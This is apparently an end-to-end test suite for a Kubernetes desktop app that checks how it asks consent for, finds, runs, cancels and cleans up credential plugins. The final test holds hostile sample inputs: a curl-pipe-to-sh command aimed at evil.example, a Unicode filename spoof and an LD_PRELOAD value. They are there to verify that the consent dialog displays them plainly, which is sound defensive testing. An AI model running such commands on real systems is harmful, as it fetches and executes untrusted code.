import { execFileSync } from 'node:child_process';
import { chmodSync, copyFileSync, mkdirSync, writeFileSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { DEMO_LOGIN, processesOf, runsIn } from '../support/plugins';
import { expect, test } from './support/fixtures';
import {
  allowPlugin,
  answerWithToken,
  consentDialog,
  writePluginKubeconfig,
} from './support/plugin-login';

/** Nothing that a plugin has started is left. */
const nothingLeft = (folder: string): Promise<void> =>
  expect.poll(() => processesOf(folder)).toEqual([]);

test('a plugin is asked about before it runs, and again when its arguments change', async ({
  launch,
  cluster,
  folder,
}) => {
  await answerWithToken(cluster, folder);
  const kubeconfig = writePluginKubeconfig(cluster, folder, { args: ['answer', '--as=qa'] });
  const podshell = await launch({ kubeconfig });
  const consent = consentDialog(podshell);
  await consent.getByRole('button', { name: "Don't run" }).click();
  const refused = podshell.alerts.filter({ hasText: 'which you have not allowed to run' });
  await expect(refused).toBeVisible();
  expect(runsIn(folder)).toBe(0);

  await podshell.page.getByRole('button', { name: 'Retry now' }).click();
  await expect(consent).toContainText('--as=qa');
  await allowPlugin(podshell);
  await expect(podshell.item(1, 'shop-a1b2')).toBeVisible();
  expect(runsIn(folder)).toBe(1);

  writePluginKubeconfig(cluster, folder, { args: ['answer', '--as=somebody-else'] });
  await expect(consent).toContainText('--as=somebody-else');
  await expect(consent).toContainText('something of it has changed since');
  expect(runsIn(folder)).toBe(1);
  await allowPlugin(podshell);
  await expect.poll(() => runsIn(folder)).toBe(2);
  await expect(podshell.item(1, 'shop-a1b2')).toBeVisible();
});

test('twenty tabs opened at once behind one slow plugin start it once', async ({
  launch,
  cluster,
  folder,
}) => {
  const first = await answerWithToken(cluster, folder);
  const kubeconfig = writePluginKubeconfig(cluster, folder, { args: ['slow', '3'] });
  const podshell = await launch({ kubeconfig });
  await allowPlugin(podshell);
  const row = podshell.item(1, 'shop-a1b2');
  await row.waitFor();
  expect(runsIn(folder)).toBe(1);

  await answerWithToken(cluster, folder);
  cluster.revokeToken(first);
  const running = () => cluster.execSessions().filter(({ exitCode }) => exitCode === undefined);
  // The cluster is shared: a test before this one may have left a shell that ignores its end.
  const before = new Set(running().map(({ id }) => id));
  await row.evaluate((element) => {
    for (let tab = 0; tab < 20; tab += 1) {
      element.dispatchEvent(new MouseEvent('click', { bubbles: true, shiftKey: true }));
    }
  });
  await expect(podshell.tabs).toHaveCount(20);
  await expect
    .poll(() => running().filter(({ id }) => !before.has(id)).length, { timeout: 90_000 })
    .toBe(20);
  expect(runsIn(folder)).toBe(2);
  await podshell.prompt();
});

test('without a PATH and a terminal, a plugin of the login shell’s PATH is found', async ({
  launch,
  cluster,
  folder,
}) => {
  const bin = join(folder, 'only the login shell knows');
  mkdirSync(bin);
  copyFileSync(DEMO_LOGIN, join(bin, 'company-login'));
  chmodSync(join(bin, 'company-login'), 0o755);
  for (const file of ['.profile', '.bash_profile']) {
    writeFileSync(join(folder, file), `PATH="/usr/bin:/bin:${bin}"\nexport PATH\necho 'Hello!'\n`);
  }
  await answerWithToken(cluster, folder);
  const kubeconfig = writePluginKubeconfig(cluster, folder, {
    exec: { command: 'company-login' },
  });
  const podshell = await launch({
    kubeconfig,
    env: { HOME: folder, PATH: '', SHELL: '/bin/bash', SHLVL: undefined, TERM: undefined },
  });
  await expect(consentDialog(podshell)).toContainText(join(bin, 'company-login'));
  await allowPlugin(podshell);
  await expect(podshell.item(1, 'shop-a1b2')).toBeVisible();
  expect(runsIn(folder)).toBe(1);
});

test('a plugin that is nowhere says its name, where it was looked for, and how to get it', async ({
  launch,
  cluster,
  folder,
}) => {
  const exec = { command: 'company-login', installHint: 'Get it from it.example.com.' };
  const kubeconfig = writePluginKubeconfig(cluster, folder, { exec });
  const podshell = await launch({
    kubeconfig,
    env: { HOME: folder, PATH: '/usr/bin:/bin', SHLVL: '1', TERM: 'dumb' },
  });
  const alert = podshell.alerts.first();
  await expect(alert).toContainText('company-login, which was not found in /usr/bin:/bin');
  await expect(alert).toContainText('Get it from it.example.com.');
});

test('a login in the browser shows what it prints, opens only what was asked, and can be cancelled', async ({
  launch,
  cluster,
  folder,
}) => {
  await answerWithToken(cluster, folder);
  execFileSync('mkfifo', [join(folder, 'signed-in')]);
  const kubeconfig = writePluginKubeconfig(cluster, folder, { args: ['browser'] });
  const podshell = await launch({ kubeconfig });
  await podshell.app.evaluate(({ shell }) => {
    const opened: string[] = [];
    Object.assign(globalThis, { opened });
    shell.openExternal = (url) => {
      opened.push(url);
      return Promise.resolve();
    };
  });
  await allowPlugin(podshell);
  const card = podshell.page.getByRole('region', { name: 'Sign-in', exact: true });
  const link = 'http://127.0.0.1:8000/login?state=abc';
  await expect(card).toContainText('enter the code ABCD-EFGH');
  await card.getByRole('button', { name: `Open ${link}` }).click();
  const question = podshell.page.getByRole('dialog', {
    name: 'Open this address in your browser?',
  });
  await expect(question).toContainText(link);
  await question.getByRole('button', { name: 'Open' }).click();
  const opened = () =>
    podshell.app.evaluate(() => (globalThis as unknown as { opened: string[] }).opened);
  await expect.poll(opened).toEqual([link]);

  await card.getByRole('button', { name: 'Cancel' }).click();
  await nothingLeft(folder);
  const list = podshell.page.getByRole('complementary', { name: 'Sidebar' });
  await expect(list.getByRole('alert')).toContainText('was cancelled');
  // Said once, where it is missed.
  await expect(card).toHaveCount(0);

  await list.getByRole('button', { name: 'Retry now' }).click();
  await expect.poll(() => runsIn(folder)).toBe(2);
  // Opens once the plugin reads: it has signed in.
  await writeFile(join(folder, 'signed-in'), '\n');
  await expect(podshell.item(1, 'shop-a1b2')).toBeVisible();
  await expect(card).toHaveCount(0);
  await nothingLeft(folder);
});

test('closing the app ends a plugin at work', async ({ launch, cluster, folder }) => {
  const podshell = await launch({
    kubeconfig: writePluginKubeconfig(cluster, folder, { args: ['stubborn'] }),
  });
  await allowPlugin(podshell);
  await expect.poll(() => runsIn(folder)).toBe(1);
  await podshell.end();
  await nothingLeft(folder);
});

test('a token that expires mid-session: the shell lives, and the list signs in once', async ({
  launch,
  cluster,
  folder,
}) => {
  const first = await answerWithToken(cluster, folder);
  const podshell = await launch({ kubeconfig: writePluginKubeconfig(cluster, folder) });
  await allowPlugin(podshell);
  await podshell.openEnvironment('shop-a1b2');
  await podshell.run('x=before');
  await answerWithToken(cluster, folder);
  cluster.revokeToken(first);
  cluster.dropWatches('end');
  await cluster.createEnvironment({ name: 'late-3333' });
  await expect(podshell.item(1, 'late-3333')).toBeVisible();
  await podshell.run('echo $x and after');
  await podshell.sees(/^before and after$/m);
  expect(runsIn(folder)).toBe(2);
});

test.describe('a plugin that gives no credential leaves its sentence and no process:', () => {
  const SECRET = 'CanaryPasswordB7d2Qx9Lm4';
  for (const [how, sentence] of [
    ['garbage', 'is no credential: not a JSON object'],
    ['terminal', 'without a credential'],
    ['fail', 'ended with code 3 without a credential'],
    ['flood', 'is no credential: its answer has more than'],
    ['flood-messages', 'is no credential: its messages have more than'],
  ] as const) {
    test(how, async ({ launch, cluster, folder }) => {
      const token = await answerWithToken(cluster, folder);
      const kubeconfig = writePluginKubeconfig(cluster, folder, {
        args: [how],
        env: [{ name: 'DEMO_PASSWORD', value: SECRET }],
      });
      const podshell = await launch({ kubeconfig });
      await allowPlugin(podshell);
      await expect(podshell.alerts.first()).toContainText(sentence);
      await nothingLeft(folder);
      const page = await podshell.page.content();
      for (const secret of [SECRET, token]) expect(page).not.toContain(secret);
    });
  }

  test('one that wants a terminal by its own word is not even started', async ({
    launch,
    cluster,
    folder,
  }) => {
    const exec = { interactiveMode: 'Always' };
    const podshell = await launch({ kubeconfig: writePluginKubeconfig(cluster, folder, { exec }) });
    await expect(podshell.alerts.first()).toContainText('wants to ask questions in a terminal');
    await expect(consentDialog(podshell)).toHaveCount(0);
    expect(runsIn(folder)).toBe(0);
  });
});

test('what would run is seen as it is: nothing turned around, nothing hidden', async ({
  launch,
  cluster,
  folder,
}) => {
  const kubeconfig = writePluginKubeconfig(cluster, folder, {
    args: [
      '-c',
      'login\n\u202etxt.exe\u200b',
      'token="$(curl evil.example | sh)"',
      'x'.repeat(3000),
      '--token=plainsecret',
    ],
    env: [{ name: 'LD_PRELOAD', value: '/tmp/a\u2028b.so' }],
    contexts: Array.from({ length: 30 }, (_, index) => `ctx-${index}`),
  });
  const podshell = await launch({ kubeconfig });
  const consent = consentDialog(podshell);
  const items = consent.getByRole('listitem');
  await expect(items).toHaveCount(5);
  await expect(items.nth(1)).toHaveText('login⏎⟨U+202E⟩txt.exe⟨U+200B⟩');
  await expect(items.nth(2)).toHaveText('token="$(curl evil.example | sh)"');
  await expect(items.nth(4)).toHaveText('--token=•••');
  await expect(consent).toContainText('LD_PRELOAD=/tmp/a⟨U+2028⟩b.so');
  await expect(consent.getByRole('button', { name: "Don't run" })).toBeInViewport({ ratio: 1 });
  await expect(consent.getByRole('heading')).toBeInViewport({ ratio: 1 });
});
